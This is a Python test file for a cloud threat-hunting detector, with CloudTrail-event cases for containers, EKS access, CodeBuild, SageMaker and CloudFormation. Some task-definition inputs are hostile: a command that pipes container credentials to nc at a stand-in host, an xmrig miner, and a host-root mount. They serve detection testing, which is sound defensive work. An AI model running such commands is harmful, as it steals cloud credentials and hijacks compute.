"""Containers, clusters, builds, notebooks and stacks."""

from tests.watchkeeper.hunting.cloudtrail_events import OURS, an_event, role
from tests.watchkeeper.hunting.hunt_case import is_silent, speaks

DEPLOYER = {"expected_principals": [f"arn:aws:iam::{OURS}:role/deployer"]}


def task(**container):
    return an_event(
        "ecs:RegisterTaskDefinition",
        request={"family": "web", "containerDefinitions": [{"name": "web", "image": "nginx"} | container]},
    )


CASES = (
    speaks("container_entered", "a shell", an_event("ecs:ExecuteCommand", request={"cluster": "c", "container": "web", "task": "t", "command": "/bin/sh"})),
    is_silent("container_entered", "another service", an_event("ssm:ExecuteCommand")),
    is_silent("container_entered", "a debugger's role", an_event("ecs:ExecuteCommand", by=role("deployer")), **DEPLOYER),
    speaks("container_task_suspicious", "privileged", task(privileged=True)),
    speaks("container_task_suspicious", "takes credentials", task(command=["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.7 80"])),
    speaks("container_task_suspicious", "mines", task(command=["xmrig", "-o", "pool"])),
    speaks(
        "container_task_suspicious", "the whole host",
        an_event("ecs:RegisterTaskDefinition", request={"family": "x", "volumes": [{"name": "v", "host": {"sourcePath": "/"}}]}),
    ),
    is_silent("container_task_suspicious", "ordinary", task(privileged=False, command=["nginx"])),
    is_silent(
        "container_task_suspicious", "a folder of its own",
        an_event("ecs:RegisterTaskDefinition", request={"family": "x", "volumes": [{"name": "v", "host": {"sourcePath": "/var/lib/web"}}]}),
    ),
    speaks("container_cluster_set_up_and_run", "all by hand", an_event("ecs:CreateCluster"), task(), an_event("ecs:CreateService", minute=4)),
    is_silent("container_cluster_set_up_and_run", "a deployment", task(), an_event("ecs:UpdateService"), an_event("ecs:RunTask")),
    is_silent("container_cluster_set_up_and_run", "another cluster", an_event("eks:CreateCluster"), task(), an_event("ecs:RunTask")),
    speaks("image_pushed_by_newcomer", "by hand", an_event("ecr:PutImage", request={"repositoryName": "base", "imageTag": "latest"})),
    is_silent("image_pushed_by_newcomer", "the pipeline", an_event("ecr:PutImage", by=role("deployer")), **DEPLOYER),
    is_silent("image_pushed_by_newcomer", "pulled", an_event("ecr:BatchGetImage", request={"repositoryName": "base"})),
    speaks(
        "cluster_access_granted", "an administrator",
        an_event("eks:AssociateAccessPolicy", request={"name": "c", "principalArn": f"arn:aws:iam::{OURS}:role/x", "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"}),
    ),
    speaks("cluster_access_granted", "by group", an_event("eks:CreateAccessEntry", request={"name": "c", "kubernetesGroups": ["system:masters"]})),
    is_silent(
        "cluster_access_granted", "a reader",
        an_event("eks:AssociateAccessPolicy", request={"name": "c", "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy"}),
    ),
    speaks("build_taken_over", "an own script", an_event("codebuild:StartBuild", request={"projectName": "p", "buildspecOverride": "version: 0.2"})),
    is_silent("build_taken_over", "an ordinary build", an_event("codebuild:StartBuild", request={"projectName": "p", "sourceVersion": "main"})),
    is_silent("build_taken_over", "a description", an_event("codebuild:UpdateProject", request={"name": "p", "description": "x"})),
    speaks("notebook_or_endpoint_entered", "a notebook", an_event("sagemaker:CreatePresignedNotebookInstanceUrl", request={"notebookInstanceName": "n"})),
    speaks("notebook_or_endpoint_entered", "its start", an_event("sagemaker:UpdateNotebookInstanceLifecycleConfig", request={"notebookInstanceLifecycleConfigName": "n"})),
    is_silent("notebook_or_endpoint_entered", "described", an_event("sagemaker:DescribeNotebookInstance")),
    speaks(
        "stack_with_iam_by_newcomer", "with roles",
        an_event("cloudformation:CreateStack", request={"stackName": "s", "capabilities": ["CAPABILITY_NAMED_IAM"], "roleARN": f"arn:aws:iam::{OURS}:role/x"}),
    ),
    is_silent("stack_with_iam_by_newcomer", "without", an_event("cloudformation:CreateStack", request={"stackName": "s"})),
    is_silent(
        "stack_with_iam_by_newcomer", "the deployer",
        an_event("cloudformation:CreateStack", by=role("deployer"), request={"stackName": "s", "capabilities": ["CAPABILITY_IAM"]}), **DEPLOYER,
    ),
    speaks("notebook_start_script_changed", "rewritten", an_event("sagemaker:UpdateNotebookInstanceLifecycleConfig", request={"notebookInstanceLifecycleConfigName": "n"})),
    speaks("notebook_start_script_changed", "put under", an_event("sagemaker:UpdateNotebookInstance", request={"notebookInstanceName": "n", "lifecycleConfigName": "x"})),
    is_silent("notebook_start_script_changed", "a larger volume", an_event("sagemaker:UpdateNotebookInstance", request={"notebookInstanceName": "n", "volumeSizeInGB": 50})),
)  # fmt: skip
